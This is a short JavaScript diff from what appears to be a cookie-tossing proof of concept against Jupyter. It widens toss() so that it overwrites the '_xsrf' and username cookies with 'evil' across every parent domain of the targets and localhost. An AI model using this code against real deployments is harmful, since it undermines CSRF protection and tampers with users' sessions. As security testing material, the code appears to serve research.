@@ -121,10 +121,16 @@ function strangeCookies() {
   return cookies.filter(cookie => !cookie.endsWith('=evil')).join('; ');
 }
 
+// All domains that it or Jupyter lies in.
+function domains() {
+  const hosts = [...TARGETS.map(url => new URL(url).hostname), location.hostname, 'localhost'];
+  return hosts.flatMap(host => host.split('.').map((_, i, labels) => labels.slice(i).join('.')));
+}
+
 function toss() {
   const names = ['_xsrf', ...TARGETS.map(url => 'username-' + new URL(url).host.replace(/\W/g, '-'))];
   for (const name of names) {
-    for (const domain of ['', '; Domain=localhost', '; Domain=.localhost', '; Domain=127.0.0.1']) {
+    for (const domain of ['', ...domains().flatMap(one => [`; Domain=${one}`, `; Domain=.${one}`])]) {
       document.cookie = `${name}=evil; Path=/${domain}`;
       document.cookie = `${name}=evil; Path=/; SameSite=None; Secure${domain}`;
     }
